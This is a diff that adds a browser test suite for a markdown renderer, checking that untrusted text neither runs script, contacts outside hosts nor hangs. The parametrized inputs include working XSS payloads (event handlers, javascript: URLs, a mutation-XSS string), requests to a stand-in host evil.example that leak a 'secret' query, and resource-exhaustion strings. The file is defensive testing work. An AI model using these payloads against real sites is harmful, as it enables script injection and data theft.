@@ -1,0 +1,205 @@
+"""Markdown written by others, in a real browser: it must neither run nor hang, and never flash."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Page, expect, sync_playwright
+
+from benchmarks.bench_markdown import CHROMIUM, FLAGS, build, served
+
+PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
+
+
+@pytest.fixture(scope="module")
+def page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
+    directory = tmp_path_factory.mktemp("markdown-page")
+    build(directory)
+    with sync_playwright() as playwright, served(directory) as address:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
+        page = browser.new_page()
+        page.goto(address)
+        page.wait_for_function("window.markdownPage")
+        yield page
+        browser.close()
+
+
+@pytest.fixture(autouse=True)
+def no_alarm(page: Page) -> Iterator[None]:
+    """Hostile texts set `window.alarm`, or ask for something: neither must happen."""
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.evaluate("window.alarm = 0")
+    yield
+    page.wait_for_timeout(50)
+    assert page.evaluate("window.alarm") == 0
+    assert not [url for url in asked if "evil" in url]
+
+
+def show(page: Page, text: str) -> str:
+    page.evaluate("text => markdownPage.show(text)", text)
+    return str(page.locator("#page").inner_html())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<script>alarm = 1</script>",
+        "a <script>alarm = 1</script> b",
+        '<img src="x" onerror="alarm = 1">',
+        f'<img src="{PIXEL}" onload="alarm = 1">',
+        '<svg onload="alarm = 1"><script>alarm = 1</script></svg>',
+        '<details open ontoggle="alarm = 1">x</details>',
+        '<iframe srcdoc="<script>parent.alarm = 1</script>"></iframe>',
+        '<object data="javascript:alarm = 1"></object><embed src="javascript:alarm = 1">',
+        "<math><mtext><table><mglyph><style><!--</style>"
+        "<img title='--&gt;&lt;img src=1 onerror=alarm=1&gt;'>",
+        '<div><p <b onclick=alarm=1><img/src="x"/onerror=alarm=1>',
+        '<style>@import "https://evil.example/x.css"; * { background: url(//evil.example) }</style>',
+        '<link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">',
+        '<img src="https://evil.example/x.png?q=secret"> and ![x](https://evil.example/y.png)',
+        '<video src="//evil.example/v.mp4" autoplay></video><audio src="//evil.example/a"></audio>',
+        '<input autofocus onfocus="alarm = 1"><form action="//evil"><button>x</button></form>',
+        '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
+        "$\\href{javascript:alarm=1}{x}$ $\\includegraphics{https://evil.example/x.png}$",
+        "$\\htmlData{x=1}{y}$ $\\htmlStyle{background:url(https://evil.example)}{y}$",
+        "```<img src=x onerror=alarm=1>\n<img src=x onerror=alarm=1>\n```",
+        "```html\n<img src=x onerror=alarm=1>\n```",
+        "[a]: javascript:alarm=1\n\n[a] [b][a]",
+    ],
+)
+def test_hostile_markup_neither_runs_nor_asks(page: Page, text: str) -> None:
+    show(page, text)
+    page.evaluate("text => markdownPage.begin(text)", text)
+    page.evaluate("document.querySelectorAll('#page *').forEach(e => e.click?.())")
+    forbidden = "script, iframe, object, embed, form, style, link, base, meta, [onerror], [onclick]"
+    expect(page.locator("#page").locator(forbidden)).to_have_count(0)
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "javascript:alarm=1",
+        "JaVaScRiPt:alarm=1",
+        "java&#115;cript:alarm=1",
+        "vbscript:x",
+        "data:text/html,<script>alarm=1</script>",
+        "&#1;javascript:alarm=1",
+        "#top",
+    ],
+)
+def test_a_link_that_could_run_leads_nowhere(page: Page, address: str) -> None:
+    show(page, f'[link]({address}) <a href="{address}">raw</a>')
+    expect(page.locator("#page a[href]")).to_have_count(0)
+
+
+def test_a_link_opens_elsewhere_and_tells_nothing(page: Page) -> None:
+    show(page, "[link](https://example.org)")
+    link = page.get_by_role("link", name="link")
+    expect(link).to_have_attribute("target", "_blank")
+    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
+
+
+def test_neither_ids_names_styles_nor_classes_pass(page: Page) -> None:
+    html = show(page, '<b id="dost" name="x" style="position:fixed" class="fixed inset-0">x</b>')
+    assert "<b>x</b>" in html
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "word " * 200_000,
+        "a" * 1_000_000,
+        "`" + "x" * 1_000_000,
+        "```\n" + "x" * 1_000_000,
+        "$" + "x" * 1_000_000 + "$",
+        "<b>" * 6_000,
+        "<div>" * 6_000 + "x",
+        ">" * 10_000 + " deep",
+        "- " * 10_000 + "deep",
+        "\n".join("  " * depth + "- x" for depth in range(1_000)),
+        "|" * 10_000 + "\n" + "|-" * 10_000 + "|",
+        "$" + "{" * 3_000 + "}" * 3_000 + "$",
+        "$$\\def\\a{\\a\\a}\\a$$",
+    ],
+    ids=lambda text: text[:12].encode("unicode_escape").decode(),
+)
+def test_a_monstrous_text_is_shown_in_bounded_time(page: Page, text: str) -> None:
+    spent = page.evaluate(
+        "async text => { const start = performance.now(); await markdownPage.begin(text);"
+        "markdownPage.set(text, false); await markdownPage.idle(2);"
+        "return performance.now() - start }",
+        text,
+    )
+    assert spent < 8_000
+
+
+ANSWER = """# Title
+
+Some **bold text**, `code`, a [link](https://example.org), *soft* and $x^2$ words.
+
+1. one
+2. two with **bold**
+
+| a | b |
+|---|---|
+| 1 | **2** |
+
+```python
+def f(): pass
+```
+
+$$
+x + y
+$$
+
+Last *words* here.
+"""
+
+
+def test_a_growing_text_never_shows_its_marks(page: Page) -> None:
+    page.evaluate(
+        """async text => {
+            window.seen = new Set();
+            const note = () => seen.add(document.querySelector('#page').innerText);
+            new MutationObserver(note).observe(document.querySelector('#page'), {
+                childList: true, characterData: true, subtree: true });
+            await markdownPage.begin('');
+            await markdownPage.grow([...text]);
+            await markdownPage.idle(2);
+        }""",
+        ANSWER,
+    )
+    seen = page.evaluate("[...seen]")
+    assert len(seen) > 30
+    marks = ("**", "`", "](", "|", "$", "# ", "--")
+    shown = {
+        text[max(0, text.find(mark) - 20) :][:40] for mark in marks for text in seen if mark in text
+    }
+    assert sorted(shown) == []
+
+
+def test_a_finished_text_shows_what_the_growing_one_showed(page: Page) -> None:
+    page.evaluate(
+        "async t => { await markdownPage.begin(''); await markdownPage.grow([...t]) }", ANSWER
+    )
+    page.evaluate("text => markdownPage.set(text, false)", ANSWER)
+    page.wait_for_selector(".katex-display")
+    page.wait_for_selector(".hljs-keyword")
+    grown = page.locator("#page").inner_text()
+    show(page, ANSWER)
+    page.wait_for_selector(".hljs-keyword")
+    assert page.locator("#page").inner_text() == grown
+
+
+def test_code_can_be_copied_wrapped_and_named(page: Page) -> None:
+    show(page, "```py\nx = 1\n```")
+    block = page.get_by_role("figure", name="Python code")
+    expect(block.get_by_role("button", name="Copy code")).to_be_visible()
+    block.get_by_role("button", name="Wrap lines").click()
+    expect(block.get_by_role("button", name="Wrap lines")).to_have_attribute("aria-pressed", "true")
+    with page.expect_download() as download:
+        block.get_by_role("button", name="Download code").click()
+    assert download.value.suggested_filename == "code.py"
+    assert download.value.path().read_text() == "x = 1"
